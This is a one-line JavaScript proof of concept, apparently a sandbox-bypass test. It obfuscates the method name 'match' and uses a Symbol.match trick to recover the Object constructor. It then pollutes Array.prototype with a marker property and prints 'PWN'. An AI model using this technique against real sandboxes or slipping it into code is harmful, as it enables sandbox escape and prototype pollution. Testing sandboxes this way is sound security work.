// match borrowed for Object, with a pattern that gives it back.
const m = ''['mat' + 'ch']; const h = {[Symbol.match]: (x) => x}; const t = m.call(Object, h); const P = t.getPrototypeOf([]); P.zz = 1; console.log('PWN', [].zz);
